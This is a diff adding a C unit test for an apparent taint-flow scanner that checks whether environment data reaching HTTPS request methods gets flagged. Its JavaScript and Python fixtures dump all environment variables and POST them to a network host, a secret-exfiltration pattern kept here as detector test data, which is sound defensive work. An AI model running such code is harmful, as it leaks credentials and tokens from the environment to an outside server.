@@ -181,6 +181,40 @@ START_TEST(typed_binding_taints_its_name)
 }
 END_TEST
 
+/* A name given a sink is that sink in its method calls: Node's
+ * `req = https.request(...); req.write(data)`, Python's
+ * `c = HTTPSConnection(...); c.request(..., body)`. */
+START_TEST(through_a_sinks_methods)
+{
+	static const char t[] =
+	    "const data = JSON.stringify({...process.env});\n"
+	    "const req = https.request({hostname: h, method: 'POST'});\n"
+	    "req.write(data);\n"
+	    "req.end();\n"
+	    "log.write(data);\n";
+	static const char u[] =
+	    "import os, http.client\n"
+	    "c = http.client.HTTPSConnection(host)\n"
+	    "env = dict(os.environ)\n"
+	    "c.conn.request('POST', '/', str(env))\n";
+	struct fx x = {0}, y = {0};
+
+	atom(&x, t, "process.env", 0, BIT(T_ENV));
+	atom(&x, t, "https.request(", 0, BIT(T_NET));
+	run(&x, "a.js", t, 1);
+	ck_assert_uint_eq(x.nrep, 1); /* not req.end(), not log.write */
+	ck_assert_uint_eq(x.rep[0].line, 3);
+	ck_assert_str_eq(x.rep[0].through, "data");
+	ck_assert_uint_eq(x.rep[0].to_rule, 1);
+
+	atom(&y, u, "HTTPSConnection(", 0, BIT(T_NET));
+	atom(&y, u, "dict(os.environ)", 0, BIT(T_ENV));
+	run(&y, "a.py", u, 1);
+	ck_assert_uint_eq(y.nrep, 1);
+	ck_assert_uint_eq(y.rep[0].line, 4);
+}
+END_TEST
+
 START_TEST(unrelated_data_is_no_flow)
 {
 	static const char t[] =
@@ -601,6 +635,7 @@ flow_suite(void)
 	tcase_add_test(tc, through_assignments_and_containers);
 	tcase_add_test(tc, through_typed_bindings);
 	tcase_add_test(tc, typed_binding_taints_its_name);
+	tcase_add_test(tc, through_a_sinks_methods);
 	tcase_add_test(tc, long_chains_past_the_tables_first_room);
 	tcase_add_test(tc, unrelated_data_is_no_flow);
 	tcase_add_test(tc, through_parameters_returns_and_callbacks);
